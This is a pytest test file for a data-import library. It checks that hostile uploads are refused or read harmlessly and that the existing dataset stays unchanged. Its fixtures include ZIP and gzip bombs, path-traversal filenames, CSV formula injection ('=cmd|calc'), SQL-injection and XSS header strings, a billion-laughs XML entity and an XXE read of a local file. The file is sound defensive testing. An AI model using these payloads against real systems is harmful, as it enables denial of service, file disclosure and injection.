"""Files made to do harm: refused or read harmlessly, in a sentence, soon, with the old dataset as it was."""

import gzip
import io
import os
import struct
import zipfile
from contextlib import suppress
from pathlib import Path

import pytest

from clm.dataset import open_dataset
from clm.errors import ClmError
from clm.importing import load_into
from clm.language import Language
from tests.workbook_files import Formula, xlsx, zipped

ORDERS = "order_id,customer_id,order_date,amount\n1,ann,2025-01-03,5.00\n2,ben,2025-01-04,7.50\n"
ROWS = [
    ["order_id", "customer_id", "order_date", "amount"],
    ["1", "ann", "2025-01-03", 5],
    ["2", "ben", "2025-01-04", 7.5],
]
MOST_SECONDS = 20  # two on a quiet machine
ENTITIES = '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(12)
)


@pytest.fixture(scope="module")
def kept(tmp_path_factory):
    """A dataset that no bad file may change."""
    path = tmp_path_factory.mktemp("malice") / "kept.duckdb"
    load_into(path, [("orders.csv", ORDERS.encode())])
    return path


def worked() -> float:
    """Seconds that processors have worked for this process and its children, however busy the machine is."""
    return sum(os.times()[:4])


def refusal(path: Path, *files) -> str:
    """The code of the refusal; the dataset and what lies around it stay as they were."""
    before, around, began = path.read_bytes(), set(path.parent.iterdir()), worked()
    with pytest.raises(ClmError) as caught:
        load_into(path, list(files))
    assert worked() - began < MOST_SECONDS
    assert path.read_bytes() == before
    assert set(path.parent.iterdir()) == around
    for language in ("en", "zh"):
        assert 10 < len(Language(language).error(caught.value)) < 4000
    return caught.value.code


def loaded(folder: Path, *files):
    """The orders of files that are odd and harmless."""
    began = worked()
    try:
        load_into(folder / "odd.duckdb", list(files))
    finally:
        assert worked() - began < MOST_SECONDS
    with open_dataset(folder / "odd.duckdb") as dataset:
        return dataset.query("select * from orders order by order_id")


def with_parts(book: bytes, **parts: str) -> bytes:
    """A workbook with other text in some of its parts: name with __ for / and _ for . -> a text or (old, new)."""
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        files: dict[str, str | bytes] = {name: archive.read(name) for name in archive.namelist()}
    for name, text in parts.items():
        files[name.replace("__", "/").replace("_xml", ".xml")] = text
    return zipped(files)


def part(book: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        return archive.read(name).decode()


def bomb(name: str = "orders.csv", megabytes: int = 160) -> bytes:
    """A ZIP file of many rows that says how large they are."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive, archive.open(name, "w") as member:
        for _ in range(megabytes):
            member.write(b"," * (1 << 20))
    return buffer.getvalue()


def understated(data: bytes, said: int = 100) -> bytes:
    """A ZIP file of one member that says in both places that it is small."""
    central = data.rindex(b"PK\x01\x02")
    size = struct.pack("<I", said)
    data = data[: central + 24] + size + data[central + 28 :]
    return data[:22] + size + data[26:]


def test_archives_made_to_fill_the_disk_are_stopped(kept):
    packed = bomb()
    assert len(packed) < 1 << 20
    assert refusal(kept, ("orders.zip", packed)) == "file_too_large"
    assert refusal(kept, ("orders.zip", understated(packed))) in ("file_too_large", "file_damaged")
    assert refusal(kept, ("orders.xlsx", bomb("xl/workbook.xml"))) == "file_too_large"
    twice = gzip.compress(gzip.compress(b"," * (64 << 20)))
    assert refusal(kept, ("orders.csv.gz", twice)) == "archive_nested"
    assert refusal(kept, ("orders.zip", zipped({"inner.zip": packed}))) == "archive_nested"
    assert (
        refusal(kept, ("orders.zip", zipped({f"{i}.csv": ORDERS for i in range(500)})))
        == "archive_too_many_files"
    )


def test_a_huge_sparse_file_is_refused_at_once(kept, tmp_path):
    for name in ("orders.csv", "orders.xlsx", "orders.zip"):
        path = tmp_path / name
        with path.open("wb") as file:
            file.write(ORDERS.encode() if name.endswith("csv") else b"PK\3\4")
            file.truncate(10 << 30)
        assert refusal(kept, path) in ("file_too_large", "file_damaged", "file_not_text")


def test_a_header_of_a_hundred_thousand_columns_is_refused(kept):
    header = ",".join(f"c{i}" for i in range(100_000))
    assert refusal(kept, ("orders.csv", f"{header}\n{'1,' * 99_999}1\n".encode())) == "too_many_columns"
    assert refusal(kept, ("orders.csv", b"," * 100_000 + b"\n")) in (
        "file_without_header",
        "too_many_columns",
    )


@pytest.mark.parametrize("share", [0.01, 0.3, 0.6, 0.97])
@pytest.mark.parametrize("name", ["orders.csv.gz", "orders.zip", "orders.xlsx"])
def test_a_file_that_was_cut_off_is_refused(kept, name, share):
    data = {
        "orders.csv.gz": gzip.compress((ORDERS + "3,cid,2025-01-05,9\n" * 9000).encode()),
        "orders.zip": zipped({"orders.csv": ORDERS + "3,cid,2025-01-05,9\n" * 9000}),
        "orders.xlsx": xlsx({"Orders": ROWS * 300}),
    }[name]
    assert refusal(kept, (name, data[: int(share * len(data))])) in (
        "file_damaged",
        "file_not_text",
        "archive_unknown",
    )


@pytest.mark.parametrize(
    ("content", "codes"),
    [
        (b"", {"file_empty"}),
        (b"\n\n  \n", {"file_without_header", "file_empty"}),
        (b"\xef\xbb\xbf", {"file_without_header", "file_empty"}),
        (b"order_id,customer_id,order_date,amount\n", {"file_without_rows"}),
        (b"order_id,customer_id,order_date,amount", {"file_without_rows"}),
        (ORDERS.encode().replace(b"ann", b"a\0n"), {"file_not_text"}),
        (b"\0" * 5000, {"file_not_text"}),
        (b'"' * 5001, {"csv_quote_open", "file_without_header", "file_without_rows", "headers_look_like_data"}),
        (b"a" * 3_000_000, {"file_without_header", "file_without_rows", "headers_look_like_data"}),
        (gzip.compress(b"", mtime=0), {"file_empty"}),
        (zipped({}), {"archive_without_table", "file_damaged"}),
        (zipped({"orders.csv": ""}), {"archive_without_table", "file_empty"}),
        (zipped({"orders.csv": "order_id,customer_id,order_date,amount\n"}), {"file_without_rows"}),
        (xlsx({"Orders": []}), {"workbook_without_table"}),
        (xlsx({"Orders": ROWS[:1]}), {"workbook_without_table"}),
    ],
)  # fmt: skip
def test_a_file_of_nothing_is_refused_as_such(kept, content, codes):
    assert refusal(kept, ("orders.csv", content)) in codes


@pytest.mark.parametrize(
    "name", ["../../escaped.csv", "/etc/escaped.csv", "..\\..\\escaped.csv", "a\0b.csv", "x" * 255]
)
def test_a_name_is_never_a_place(kept, tmp_path, name):
    assert len(loaded(tmp_path, (name, ORDERS.encode()))) == 2
    if "\0" not in name:
        assert len(loaded(tmp_path, ("pack.zip", zipped({name: ORDERS})))) == 2
    assert not list(tmp_path.parent.rglob("escaped.csv"))
    assert not Path("/etc/escaped.csv").exists()
    assert refusal(kept, (name, b"a,b\n1,2\n")) == "columns_missing"


def test_formulas_are_text_or_the_value_that_was_saved(tmp_path):
    formula = '=HYPERLINK("http://example.org/?"&A1,"x")'
    book = xlsx({"Orders": [ROWS[0], [formula, "ann", "2025-01-03", Formula("1/0*A1", 5)], *ROWS[2:]]})
    orders = loaded(tmp_path, ("orders.xlsx", book))
    assert orders["amount"].sum() == 12.5
    assert formula in set(orders["order_id"])
    quoted = formula.replace('"', '""')
    text = f'order_id,customer_id,order_date,amount\n"{quoted}",=cmd|calc,2025-01-03,5\n2,+SUM(A1),2025-01-04,7.5\n'
    orders = loaded(tmp_path, ("orders.csv", text.encode()))
    assert (set(orders["customer_id"]), formula in set(orders["order_id"])) == (
        {"=cmd|calc", "+SUM(A1)"},
        True,
    )


@pytest.mark.parametrize(
    "header",
    [
        "'; drop table orders; --",
        "\"); attach '/etc/passwd' as x; --",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "../../../etc/passwd",
        "{customer_id} {0} %s %(name)s ${HOME}",
        "\u202e\u2066gnp.exe",
        "$h0",
        "[x](javascript:alert(1))",
        "c0",
        "rowid",
        "x" * 20_000,
    ],
)
def test_headers_that_are_something_else_are_names_and_nothing_more(tmp_path, header):
    mark = header.replace('"', '""')
    rows = "".join(f"{i},c{i % 7},2025-01-{i + 1:02},5.00,{'ab'[i % 2]}\n" for i in range(20))
    text = f'order_id,customer_id,order_date,amount,"{mark}"\n{rows}'
    assert len(loaded(tmp_path, ("orders.csv", text.encode()))) == 20
    needed = f'order_id,"{mark}",order_date,amount\n1,a,2025-01-03,5\n'
    with pytest.raises(ClmError, match=r"orders\.csv") as caught:
        loaded(tmp_path, ("orders.csv", needed.encode()))
    assert caught.value.code == "customer_column_missing"
    assert 10 < len(Language("zh").error(caught.value)) < 4000


STRANGE = (
    "o'brien", 'the "boss"', "back\\slash", "😀👩‍👩‍👧", "\u202eeltrut", "a\u200bb", "%s {0} $1", "x'); drop table customers; --",
    "<b>x</b>", "C:\\temp", "x" * 10_000, "null\u0001", "مرحبا", "é\u0301", "=1+1", "-1+1",
)  # fmt: skip


def test_customer_ids_of_any_signs_come_through_and_stay_apart(tmp_path):
    rows = "".join(
        f'{i},"{each.replace(chr(34), chr(34) * 2)}",2025-01-03,5\n' for i, each in enumerate(STRANGE)
    )
    orders = loaded(tmp_path, ("orders.csv", ("order_id,customer_id,order_date,amount\n" + rows).encode()))
    assert set(orders["customer_id"]) == set(STRANGE)


@pytest.mark.parametrize("kind", ["laughing", "reading"])
def test_entities_in_a_workbook_are_not_followed(tmp_path, kind):
    book = xlsx({"Orders": ROWS})
    sheet = part(book, "xl/worksheets/sheet1.xml")
    secret = tmp_path / "secret.txt"
    secret.write_text("s3cret", encoding="utf-8")
    doctype = (
        f"{ENTITIES}]>" if kind == "laughing" else f'<!DOCTYPE x [<!ENTITY m SYSTEM "{secret.as_uri()}">]>'
    )
    data = with_parts(book, xl__worksheets__sheet1_xml=doctype + sheet.replace(">ann<", ">&m;<"))
    with suppress(ClmError):  # to refuse it is as good as to read nothing there
        ids = " ".join(filter(None, loaded(tmp_path, ("orders.xlsx", data))["customer_id"]))
        assert "s3cret" not in ids
        assert len(ids) < 1000


def test_a_workbook_that_links_to_another_is_read_as_it_was_saved(tmp_path):
    link = '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
    rows = [ROWS[0], ["1", "ann", "2025-01-03", Formula("[1]Sheet1!$A$1", 5)], ROWS[2]]
    book = with_parts(xlsx({"Orders": rows}), xl__externalLinks__externalLink1_xml=link)
    assert loaded(tmp_path, ("orders.xlsx", book))["amount"].sum() == 12.5
